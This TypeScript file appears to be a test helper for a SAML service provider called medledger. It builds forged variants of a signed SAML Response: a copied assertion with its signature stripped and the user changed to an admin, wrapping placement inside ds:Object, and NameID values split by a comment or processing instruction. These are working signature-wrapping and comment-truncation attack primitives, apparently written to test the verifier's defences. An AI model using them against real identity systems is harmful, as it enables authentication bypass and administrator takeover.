import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { ATTRIBUTE, NS } from '../saml-names';

/**
 * Tools for building malicious variants of a validly signed Response: parse, change the DOM,
 * serialise. Nothing here re-signs, so whatever signature survives is the IdP's original one.
 */
export function tamper(xml: string, change: (doc: Document, parts: ResponseParts) => void): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  change(doc, partsOf(doc));
  return new XMLSerializer().serializeToString(doc);
}

export interface ResponseParts {
  response: Element;
  assertion: Element;
  responseSignature: Element;
  assertionSignature: Element | undefined;
}

function partsOf(doc: Document): ResponseParts {
  const response = doc.documentElement;
  if (response === null) throw new Error('no root');
  const assertion = firstChild(response, NS.assertion, 'Assertion');
  const responseSignature = firstChild(response, NS.dsig, 'Signature');
  if (assertion === undefined || responseSignature === undefined) throw new Error('expected a signed response with an assertion');
  return { response, assertion, responseSignature, assertionSignature: firstChild(assertion, NS.dsig, 'Signature') };
}

export function firstChild(parent: Element, namespace: string, localName: string): Element | undefined {
  return Array.from(parent.childNodes).find(
    (node): node is Element => node.nodeType === 1 && (node as Element).namespaceURI === namespace && (node as Element).localName === localName,
  );
}

export function clone(element: Element): Element {
  return element.cloneNode(true) as Element;
}

/** The attacker's assertion: a copy of the genuine one, without its signature, naming the admin. */
export function evilAssertion(genuine: Element, options: { keepId?: boolean; keepSignature?: boolean } = {}): Element {
  const evil = clone(genuine);
  if (options.keepId !== true) evil.setAttribute('ID', '_evil-assertion');
  if (options.keepSignature !== true) {
    const signature = firstChild(evil, NS.dsig, 'Signature');
    if (signature !== undefined) evil.removeChild(signature);
  }
  const nameId = evil.getElementsByTagNameNS(NS.assertion, 'NameID')[0];
  if (nameId !== undefined) nameId.textContent = 'ada.admin@dev-idp.medledger.test';
  for (const attribute of Array.from(evil.getElementsByTagNameNS(NS.assertion, 'Attribute'))) {
    if (attribute.getAttribute('Name') !== ATTRIBUTE.medledgerRole) continue;
    const value = attribute.getElementsByTagNameNS(NS.assertion, 'AttributeValue')[0];
    if (value !== undefined) value.textContent = 'admin';
  }
  return evil;
}

export function withoutSignature(element: Element): Element {
  const copy = clone(element);
  const signature = firstChild(copy, NS.dsig, 'Signature');
  if (signature !== undefined) copy.removeChild(signature);
  return copy;
}

export function insertAfter(reference: Element, node: Element): void {
  const parent = reference.parentNode;
  if (parent === null) throw new Error('reference has no parent');
  if (reference.nextSibling === null) parent.appendChild(node);
  else parent.insertBefore(node, reference.nextSibling);
}

export function dsObject(doc: Document, content: Element): Element {
  const object = doc.createElementNS(NS.dsig, 'ds:Object');
  object.appendChild(content);
  return object;
}

/** Replaces the NameID text with pieces separated by a comment (or any other node the attacker chooses). */
export function splitNameId(doc: Document, assertion: Element, before: string, after: string, between: 'comment' | 'pi'): void {
  const nameId = assertion.getElementsByTagNameNS(NS.assertion, 'NameID')[0];
  if (nameId === undefined) throw new Error('no NameID');
  while (nameId.firstChild !== null) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(before));
  nameId.appendChild(between === 'comment' ? doc.createComment('') : doc.createProcessingInstruction('x', 'y'));
  nameId.appendChild(doc.createTextNode(after));
}
